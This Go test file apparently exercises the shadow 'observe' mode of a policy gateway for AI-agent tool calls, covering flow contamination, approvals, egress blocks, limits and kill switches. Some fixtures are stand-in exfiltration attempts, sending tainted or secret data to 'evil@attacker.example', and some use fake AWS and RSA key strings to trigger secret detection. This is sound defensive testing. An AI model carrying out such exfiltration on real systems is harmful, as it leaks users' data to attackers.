package gateway_test

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"sallyport.example/flow"
	"sallyport.example/internal/approval"
	"sallyport.example/internal/audit"
	"sallyport.example/internal/call"
	"sallyport.example/internal/catalogue"
	"sallyport.example/internal/fault"
	"sallyport.example/internal/gateway"
	"sallyport.example/internal/identity"
	"sallyport.example/internal/planned"
	"sallyport.example/internal/session"
	"sallyport.example/provenance"
)

func observing(o *gateway.Options) { o.Mode = gateway.Observe }

// observed are the verdicts that the entry says were only recorded, as "stage code".
func observedIn(t testing.TB, e audit.Entry) (all []string) {
	t.Helper()
	var d struct{ Observed []gateway.Lifted }
	if len(e.Detail) > 0 {
		if err := json.Unmarshal(e.Detail, &d); err != nil {
			t.Fatal(err)
		}
	}
	for _, l := range d.Observed {
		all = append(all, l.Stage+" "+string(l.Code))
	}
	return all
}

// limited are the options of a world whose session may make one call a minute.
func limited(o *gateway.Options) { o.Limits.CallsPerMinute = 1 }

// unnamed makes an operation of each tool that no entry names, as unlisted_operations says.
func unnamed(standing catalogue.Standing) func(*gateway.Options) {
	return func(o *gateway.Options) {
		o.Unlisted = standing
		inner := o.Classify
		o.Classify = func(server, tool string) catalogue.Classification {
			c := inner(server, tool)
			if server == "shy" {
				c.Flow.Effect = flow.Read
			}
			return c
		}
	}
}

// observedCall is a call against which one stage has something.
type observedCall struct {
	world func(testing.TB, ...func(*gateway.Options)) *commWorld
	with  func(*gateway.Options)
	call  func(w *commWorld) gateway.Answer
	code  fault.Code // of a gateway that enforces
	holds fault.Code // of a gateway that observes, where that is another one
	lifts string     // stage and code of what a gateway that observes records; "" it holds
}

var observedCalls = map[string]observedCall{
	"phase": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("planner", "erin", widgets), "web_search", `{"q":"x"}`, "")
	}, code: fault.PhaseBlocked, lifts: "phase phase.blocked"},
	"no declaration": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "comm_get", getPage, "")
	}, code: fault.DeclarationMissing, lifts: "declare declaration.missing"},
	"a declaration that says nothing": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "comm_get", `{"url":"https://example.com/page","justification":{"user_request":"","missing_knowledge":"x","expected_use":"y"}}`, "")
	}, code: fault.DeclarationInvalid, lifts: "declare declaration.invalid"},
	"a declaration that nobody made": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "comm_get", getPage, "decl_1")
	}, code: fault.DeclarationInvalid, lifts: "declare declaration.invalid"},
	"a declaration that was used": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		d := w.mustDeclare(p, "comm.get", getPage, fault.Permit)
		w.mustPermit(w.do(p, "comm_get", `{}`, d.DeclarationID))
		return w.do(p, "comm_get", `{}`, d.DeclarationID)
	}, code: fault.DeclarationInvalid, lifts: "declare declaration.invalid"},
	"internal data": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.mustPermit(w.do(p, "search_email", `{"q":"x"}`, ""))
		return w.do(p, "web_search", `{"q":"x"}`, "")
	}, code: fault.FlowContaminated, lifts: "flow flow.contaminated"},
	"a secret": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.secretive(), "web_search", `{"q":"x"}`, "")
	}, code: fault.FlowContaminated},
	"a value from a page": {world: newTracedWorld, call: func(w *commWorld) gateway.Answer {
		return w.do(w.tainted(), "slack_send", to("evil@attacker.example"), "")
	}, code: fault.ApprovalRequired, lifts: "flow approval.required"},
	"a value from a page, with a secret": {world: newTracedWorld, call: func(w *commWorld) gateway.Answer {
		w.says("mail.find", structured(`{"mails":[{"id":"m-1041","subject":"Offer from Acme","body":"`+secretWords+`"}]}`))
		p := w.open("worker", "erin", errand)
		w.mustPermit(w.do(p, "mail_find", `{"q":"Acme"}`, ""))
		return w.do(p, "slack_send", to("evil@attacker.example"), "")
	}, code: fault.ApprovalRequired},
	"outside the plan of a rule": {call: func(w *commWorld) gateway.Answer {
		p := w.open("planner", "erin", widgets)
		w.submit(p, `[{"tool":"web_search","justification":"look it up"}]`)
		return w.do(p, "slack_post", `{"q":"x"}`, "")
	}, code: fault.ApprovalRequired, lifts: "plan approval.required"},
	"unlisted, and asked about": {with: unnamed(catalogue.Active), call: func(w *commWorld) gateway.Answer {
		w.offer("shy", definition("shy", "look", "New."))
		return w.do(w.open("worker", "erin", widgets), "shy_look", `{}`, "")
	}, code: fault.ApprovalRequired, lifts: "permit approval.required"},
	"unlisted, and denied": {with: unnamed(catalogue.Unlisted), call: func(w *commWorld) gateway.Answer {
		w.offer("shy", definition("shy", "look", "New."))
		return w.do(w.open("worker", "erin", widgets), "shy_look", `{}`, "")
	}, code: fault.ToolUnknown, lifts: "permit permission.denied"},
	"unlisted, denied, and not permitted": {with: unnamed(catalogue.Unlisted), call: func(w *commWorld) gateway.Answer {
		w.offer("else", definition("else", "look", "New."))
		return w.do(w.open("worker", "erin", widgets), "else_look", `{}`, "")
	}, code: fault.ToolUnknown, holds: fault.PermissionDenied},
	"MEDIUM": {world: newPeopleWorld, call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		if _, observes := w.g.Observing(); !observes { // it would wait for somebody to stop it
			return gateway.Answer{Verdict: judgedOnly(w, p, "slack_mail", `{}`)}
		}
		return w.do(p, "slack_mail", `{}`, "")
	}, code: fault.ApprovalRequired, lifts: "risk approval.required"},
	"HIGH": {world: newPeopleWorld, call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "slack_publish", `{}`, "")
	}, code: fault.ApprovalRequired, lifts: "risk approval.required"},
	"CRITICAL": {world: newPeopleWorld, call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "slack_wipe", `{}`, "")
	}, code: fault.ApprovalRequired},
	"a risk that is no risk": {world: newPeopleWorld, call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "slack_odd", `{}`, "")
	}, code: fault.ApprovalRequired},
	"killed": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.g.Standing().Disable("worker", "person:alice", "test")
		return w.do(p, "think", `{}`, "")
	}, code: fault.KillSwitch},
	"quarantined": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.quarantine("worker")
		return w.do(p, "think", `{}`, "")
	}, code: fault.AgentQuarantined},
	"closed": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		if _, err := w.g.CloseSession(w.t.Context(), p.ID, "person:alice", "test"); err != nil {
			w.t.Fatal(err)
		}
		return w.do(p, "think", `{}`, "")
	}, code: fault.SessionClosed},
	"a changed definition": {call: func(w *commWorld) gateway.Answer {
		w.offer("docs", definition("docs", "think", "Another tool."))
		return w.do(w.open("worker", "erin", widgets), "think", `{}`, "")
	}, code: fault.ToolQuarantined},
	"not permitted": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "transfer", `{}`, "")
	}, code: fault.PermissionDenied},
	"not permitted, in planning": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("planner", "erin", widgets), "transfer", `{}`, "")
	}, code: fault.PhaseBlocked, holds: fault.PermissionDenied},
	"a forbidden address": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "comm_get", `{"url":"https://forbidden.example",`+because+`}`, "")
	}, code: fault.EgressBlocked},
	"too many calls": {with: limited, call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.mustPermit(w.do(p, "think", `{}`, ""))
		return w.do(p, "think", `{}`, "")
	}, code: fault.LimitRate},
	"malformed": {call: func(w *commWorld) gateway.Answer {
		return w.do(w.open("worker", "erin", widgets), "think", `{"a":1,"a":2}`, "")
	}, code: fault.RequestMalformed},
	"no budget": {with: func(o *gateway.Options) { o.Limits.Budget = time.Nanosecond }, call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.up.answers["docs.think"] = func(context.Context, json.RawMessage, *call.Exchange) (json.RawMessage, error) {
			return text("ok"), nil
		}
		w.do(p, "think", `{}`, "")
		return w.do(p, "think", `{}`, "")
	}, code: fault.LimitBudget},
	"evidence that can't be read": {world: newTracedWorld, call: func(w *commWorld) gateway.Answer {
		p := w.tainted()
		w.restart()
		w.store.set(func(b *brittle) { b.evidence = fault.New(fault.StoreUnavailable, "away") })
		return w.do(p, "slack_send", to("evil@attacker.example"), "")
	}, code: fault.StoreUnavailable},
	"an intent that can't be written": {call: func(w *commWorld) gateway.Answer {
		p := w.open("worker", "erin", widgets)
		w.store.set(func(b *brittle) { b.intent = errors.New("away") })
		return w.do(p, "think", `{}`, "")
	}, code: fault.AuditUnavailable},
}

const secretWords = "the key is AKIAIOSFODNN7EXAMPLQ and -----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEA7bq9dJ0v9s8xk2Zp3Q\\n-----END RSA PRIVATE KEY-----"

// secretive is a session that has read a secret.
func (w *commWorld) secretive() identity.Principal {
	w.t.Helper()
	w.up.answers["docs.think"] = func(context.Context, json.RawMessage, *call.Exchange) (json.RawMessage, error) {
		return json.RawMessage(`{"content":[{"type":"text","text":"` + secretWords + `"}]}`), nil
	}
	p := w.open("worker", "erin", widgets)
	w.mustPermit(w.do(p, "think", `{}`, ""))
	if _, ok := w.holds(p, "secret"); !ok {
		w.t.Fatal("nothing looked like a secret")
	}
	return p
}

// What a gateway that observes lets through, and what holds as if it enforced. Of each call that ran the record has the verdict that it would have
// had, and a check says what the call does.
func TestObserve(t *testing.T) {
	for name, c := range observedCalls {
		t.Run(name, func(t *testing.T) {
			world := c.world
			if world == nil {
				world = newCommWorld
			}
			var with []func(*gateway.Options)
			if c.with != nil {
				with = append(with, c.with)
			}
			w := world(t, with...)
			enforced := c.call(w)
			if enforced.Verdict.Decision == fault.Permit || enforced.Verdict.Code != c.code || enforced.Result != nil {
				t.Fatalf("enforced: %+v", enforced.Verdict)
			}
			w = world(t, append(with, observing)...)
			before, _ := w.g.Observing()
			a := c.call(w)
			now, is := w.g.Observing()
			w.store.set(func(b *brittle) { b.intent, b.evidence = nil, nil })
			if c.lifts == "" {
				want := c.code
				if c.holds != "" {
					want = c.holds
				}
				if a.Verdict.Decision == fault.Permit || a.Verdict.Code != want || a.Result != nil || now != before {
					t.Fatalf("it does not hold: %+v, counted %+v", a.Verdict, now)
				}
				return
			}
			w.mustPermit(a)
			es := w.entriesOf(a.CallID)
			stage, code, _ := strings.Cut(c.lifts, " ")
			if len(es) != 2 || !es[0].Shadow || es[0].Stage != stage || es[0].Code != code || es[0].Reason == "" || es[0].Decision != "permit" || es[0].Severity == audit.Info || !slices.Contains(observedIn(t, es[0]), c.lifts) {
				t.Errorf("on record: %+v, %v", es, observedIn(t, es[0]))
			}
			want := gateway.Observed{Refusals: before.Refusals + 1, Questions: before.Questions}
			if code == string(fault.ApprovalRequired) {
				want = gateway.Observed{Refusals: before.Refusals, Questions: before.Questions + 1}
			}
			if !is || now.Refusals+now.Questions <= before.Refusals+before.Questions || now.Refusals < want.Refusals && now.Questions < want.Questions {
				t.Errorf("counted %+v, before %+v", now, before)
			}
			if all, err := w.g.Desk().Questions(t.Context(), "", "", "", 10); err != nil || len(all) != 0 {
				t.Errorf("%d questions, %v", len(all), err)
			}
		})
	}
}

// What was let through is no reason to find its tool and its destination familiar once the gateway enforces, and it answers no question.
func TestObservedCallsLeaveNothingFamiliar(t *testing.T) {
	w := newTracedWorld(t, observing)
	p := w.tainted()
	w.mustPermit(w.do(p, "slack_send", to("evil@attacker.example"), ""))
	w.restart(func(o *gateway.Options) { o.Mode = gateway.Enforce })
	q := w.question(w.mustAsk(w.do(p, "slack_send", to("evil@attacker.example"), "")))
	if !slices.ContainsFunc(q.Reasons, func(r approval.Reason) bool { return r.Code == "risk.first_destination" }) {
		t.Errorf("the destination is not new any more: %+v", q.Reasons)
	}
}

// Labels rise as ever, so that what would be refused is known: each verdict of a call is kept.
func TestObserveTracksLabelsAndKeepsAllVerdicts(t *testing.T) {
	w := newCommWorld(t, observing)
	p := w.open("planner", "erin", widgets)
	w.mustPermit(w.do(p, "search_email", `{"q":"x"}`, ""))
	if _, ok := w.holds(p, "internal"); !ok {
		t.Fatal("the label did not rise")
	}
	a := w.mustPermit(w.do(p, "comm_send", getPage, ""))
	e := w.entriesOf(a.CallID)[0]
	if got := strings.Join(observedIn(t, e), ", "); got != "phase phase.blocked, declare declaration.missing, flow flow.contaminated, risk approval.required" || e.Code != "phase.blocked" {
		t.Errorf("%s: %s", e.Code, got)
	}
	if v := w.do(w.secretive(), "comm_send", getPage, ""); v.Verdict.Code != fault.FlowContaminated {
		t.Fatalf("a secret left: %+v", v.Verdict)
	}
	last := w.entries()[len(w.entries())-1]
	if got := strings.Join(observedIn(t, last), ", "); last.Shadow || got != "declare declaration.missing" {
		t.Errorf("the refusal does not say what was lifted before it: %s, %+v", got, last)
	}
}

// What holds takes two other people's yes, who are told of what was lifted.
func TestObserveAsksAboutCritical(t *testing.T) {
	w := newCommWorld(t, observing)
	p := w.open("worker", "erin", widgets)
	w.mustPermit(w.do(p, "search_email", `{"q":"x"}`, ""))
	q := w.question(w.mustAsk(w.do(p, "comm_wipe", sendPage, "")))
	if q.Risk != "CRITICAL" || q.Needed != 2 || !slices.ContainsFunc(q.Reasons, func(r approval.Reason) bool { return r.Stage == "flow" && r.Code == "flow.contaminated" }) {
		t.Fatalf("%+v", q.Approval)
	}
	w.mustRespond("bob", q.ID, approval.Approve, "")
	w.mustAsk(w.do(p, "comm_wipe", sendPage, ""))
	w.mustRespond("carol", q.ID, approval.Approve, "")
	w.mustPermit(w.do(p, "comm_wipe", sendPage, ""))
}

// The advice of a gateway that observes is about what holds in it: an order that it calls safe runs, and what it calls unsafe does not.
func TestObserveAdvisesWhatHolds(t *testing.T) {
	w := newCommWorld(t, observing, func(o *gateway.Options) {
		inner := o.Classify
		o.Classify = func(server, tool string) catalogue.Classification {
			c := inner(server, tool)
			if server == "mail" && tool == "vault" {
				c = catalogue.Classification{Listed: true, Named: true, ExternalIO: true, Output: provenance.TrustedOutput, Flow: flow.Spec{Sensitivity: flow.None, Effect: flow.Read, Emits: &[]flow.Label{"secret"}}}
			}
			return c
		}
	})
	w.offer("mail", definition("mail", "search_email", "A tool."), definition("mail", "vault", "New."))
	w.acceptAll()
	for _, agent := range []string{"worker", "planner"} {
		p := w.open(agent, "erin", widgets)
		report := func(tools ...string) planned.Report {
			t.Helper()
			var steps []string
			for _, tool := range tools {
				steps = append(steps, `"`+tool+`"`)
			}
			r, err := w.g.ValidatePlan(t.Context(), p, "", json.RawMessage(`{"planned_calls":[`+strings.Join(steps, ",")+`]}`))
			if err != nil {
				t.Fatal(err)
			}
			return r.(planned.Report)
		}
		if r := report("search_email", "web_search", "slack_post"); !r.Valid || len(r.Violations) != 0 || len(r.Asks) != 0 {
			t.Errorf("%s: %+v", agent, r)
		}
		for _, tool := range []string{"search_email", "web_search", "slack_post"} {
			if v := judgedOnly(w, p, tool, `{"q":"x"}`); v.Decision != fault.Permit {
				t.Errorf("%s: a check says %+v", tool, v)
			}
			w.mustPermit(w.do(p, tool, `{"q":"x"}`, ""))
		}
		m := w.manifest(p)
		for _, tool := range m.Tools {
			if tool.BlockedBySession || slices.Contains(tool.Blocks, "web_search") != (tool.Name == "mail_vault") {
				t.Errorf("%s: %+v", agent, tool)
			}
		}
		if strings.Contains(m.SystemPrompt, "execution phase only") || !strings.Contains(m.SystemPrompt, "justification") || !strings.Contains(m.SystemPrompt, "any order: search_email") {
			t.Errorf("%s is holds:\n%s", agent, m.SystemPrompt)
		}
		if r := report("mail_vault", "web_search"); r.Valid || len(r.Violations) != 1 || r.Violations[0].AtStep != 1 {
			t.Errorf("%s, a secret first: %+v", agent, r)
		}
		w.mustPermit(w.do(p, "mail_vault", `{}`, ""))
		w.mustRefuse(w.do(p, "web_search", `{"q":"x"}`, ""), fault.FlowContaminated)
	}
}

func (w *commWorld) manifest(p identity.Principal) gateway.Manifest {
	w.t.Helper()
	m, err := w.g.Manifest(w.t.Context(), p, "")
	if err != nil {
		w.t.Fatal(err)
	}
	return m.(gateway.Manifest)
}

// A plan that would be refused or wait is approved by rule, with that on record; what holds rejects it as ever.
func TestObservePlans(t *testing.T) {
	for name, c := range map[string]struct {
		agent, steps string
		with         func(*gateway.Options)
		state        session.PlanState
		lifted       string
	}{
		"good":            {agent: "planner", steps: `[{"tool":"web_search","justification":"look it up"}]`, state: session.PlanApproved},
		"in a bad order":  {agent: "planner", steps: `[{"tool":"search_email","justification":"x"},{"tool":"web_search","justification":"look it up"}]`, state: session.PlanApproved, lifted: "flow flow.contaminated"},
		"not permitted":   {agent: "planner", steps: `[{"tool":"transfer","justification":"x"}]`, state: session.PlanRejected},
		"always asked":    {agent: "planner", steps: `[{"tool":"web_search","justification":"look it up"}]`, with: func(o *gateway.Options) { o.Tiers["standard"] = gateway.Tier{PlansWait: true} }, state: session.PlanApproved, lifted: "plan approval.required"},
		"unlisted, asked": {agent: "planner", steps: `[{"tool":"shy_look","justification":"x"}]`, with: unnamed(catalogue.Active), state: session.PlanApproved, lifted: "permit approval.required"},
		"unlisted":        {agent: "planner", steps: `[{"tool":"shy_look","justification":"x"}]`, with: unnamed(catalogue.Unlisted), state: session.PlanApproved, lifted: "permit permission.denied"},
	} {
		t.Run(name, func(t *testing.T) {
			with := []func(*gateway.Options){observing}
			if c.with != nil {
				with = append(with, c.with)
			}
			w := newCommWorld(t, with...)
			w.offer("shy", definition("shy", "look", "New."))
			p := w.open(c.agent, "erin", widgets)
			before, _ := w.g.Observing()
			plan := w.submit(p, c.steps)
			now, _ := w.g.Observing()
			if plan.State != c.state || plan.ApprovalID != "" {
				t.Errorf("%+v", plan)
			}
			i := slices.IndexFunc(w.entries(), func(e audit.Entry) bool { return e.Action == "plan.submit" })
			e := w.entries()[i]
			stage, code, _ := strings.Cut(c.lifted, " ")
			if e.Shadow != (c.lifted != "") || c.lifted != "" && (e.Stage != stage || e.Code != code || e.Decision != "permit" || e.Severity == audit.Info) || (now != before) != (c.lifted != "") {
				t.Errorf("%+v, counted %+v", e, now)
			}
		})
	}
}

// A plan that was approved only because the gateway observed counts while it observes: once it enforces, what it had opened is closed at once and on
// record, and the agent can submit another one. A plan that would have been approved anyway stays.
func TestEnforcingEndsObservedPlans(t *testing.T) {
	for name, c := range map[string]struct {
		steps string
		stays bool
	}{
		"good":           {`[{"tool":"web_search","arguments":{"q":"widgets"},"justification":"look it up"}]`, true},
		"in a bad order": {`[{"tool":"search_email","justification":"x"},{"tool":"web_search","justification":"look it up"}]`, false},
	} {
		t.Run(name, func(t *testing.T) {
			w := newCommWorld(t, observing)
			p := w.open("planner", "erin", widgets)
			plan := w.submit(p, c.steps)
			phase := func() session.Phase {
				t.Helper()
				m, err := w.g.Manifest(t.Context(), p, "")
				if err != nil {
					t.Fatal(err)
				}
				return m.(gateway.Manifest).Phase
			}
			if plan.State != session.PlanApproved || phase() != session.Execution {
				t.Fatalf("observing: %+v in %s", plan, phase())
			}
			broken := errors.New("no store")
			w.store.set(func(b *brittle) { b.pages = broken }) // nothing of it is written down
			w.reconfigure(func(s *gateway.Settings) { s.Mode = gateway.Enforce })
			a := w.do(p, "web_search", `{"q":"widgets"}`, "")
			if c.stays {
				if w.store.set(func(b *brittle) { b.pages = nil }); phase() != session.Execution || a.Verdict.Code == fault.PhaseBlocked {
					t.Errorf("enforcing: %s, %+v", phase(), a.Verdict)
				}
				return
			}
			if phase() != session.Planning || a.Verdict.Code != fault.PhaseBlocked {
				t.Errorf("before it is written down: %s, %+v", phase(), a.Verdict)
			}
			w.store.set(func(b *brittle) { b.pages = nil })
			w.takenBack(p.ID, plan.PlanID, "rule:enforce", "only observed")
			if again := w.submit(p, `[{"tool":"web_search","arguments":{"q":"widgets"},"justification":"look it up"}]`); again.State != session.PlanApproved || phase() != session.Execution {
				t.Errorf("another plan: %+v in %s", again, phase())
			}
		})
	}
}

// A declaration that would wait for a person is approved by rule, with that on record, and its call is judged by itself.
func TestObserveDeclarations(t *testing.T) {
	w := newCommWorld(t, observing)
	p := w.open("worker", "erin", widgets)
	d := w.mustDeclare(p, "comm.send", getPage, fault.Permit)
	i := slices.IndexFunc(w.entries(), func(e audit.Entry) bool { return e.Action == "declare" })
	if e := w.entries()[i]; !e.Shadow || e.Stage != "risk" || e.Code != "approval.required" || e.Decision != "permit" {
		t.Errorf("%+v", e)
	}
	w.mustPermit(w.do(p, "comm_send", `{}`, d.DeclarationID))
	if d := w.mustDeclare(p, "comm.wipe", getPage, fault.Ask); d.ApprovalID == "" {
		t.Errorf("CRITICAL: %+v", d)
	}
	w.restart(func(o *gateway.Options) { o.Mode = gateway.Enforce })
	next := w.mustDeclare(p, "comm.send", getPage, fault.Ask)
	w.restart(observing)
	w.mustPermit(w.do(p, "comm_send", `{}`, next.DeclarationID)) // it waits still
	if err := w.respond("bob", &next.ApprovalID, approval.Reject, "no"); err != nil {
		t.Fatal(err)
	}
	w.mustRefuse(w.do(p, "comm_send", `{}`, next.DeclarationID), fault.ApprovalRejected)
}

// What goes out as an answer to a server's question is let through and on record like a call, and a secret is not.
func TestObserveAnswersToServers(t *testing.T) {
	for name, secret := range map[string]bool{"internal": false, "secret": true} {
		t.Run(name, func(t *testing.T) {
			w := newCommWorld(t, observing)
			p := w.open("worker", "erin", widgets)
			var leaked string
			w.up.answers["docs.think"] = func(context.Context, json.RawMessage, *call.Exchange) (json.RawMessage, error) {
				return json.RawMessage(`{"content":[{"type":"text","text":"` + secretWords + `"}]}`), nil
			}
			w.up.answers["web.web_search"] = func(ctx context.Context, _ json.RawMessage, x *call.Exchange) (json.RawMessage, error) {
				w.mustPermit(w.do(p, map[bool]string{true: "think", false: "search_email"}[secret], `{}`, ""))
				if answer, err := x.Ask(ctx, "elicitation/create", json.RawMessage(`{"message":"what did you read?"}`)); err == nil {
					leaked = string(answer)
				}
				return text("ok"), nil
			}
			w.mustPermit(w.g.Call(t.Context(), gateway.Request{Principal: p, Method: "tools/call", Tool: "web_search", Arguments: json.RawMessage(`{"q":"x"}`), Door: "mcp",
				Exchange: call.Exchange{Ask: func(context.Context, string, json.RawMessage) (json.RawMessage, error) {
					return json.RawMessage(`{"action":"accept"}`), nil
				}}}))
			if (leaked == "") != secret {
				t.Fatalf("the server got %q", leaked)
			}
			for _, e := range w.entries() {
				if e.Action == "answer" && (!e.Shadow || e.Code != "flow.contaminated" || !slices.Equal(observedIn(t, e), []string{"flow flow.contaminated"})) {
					t.Errorf("%+v", e)
				}
			}
		})
	}
}
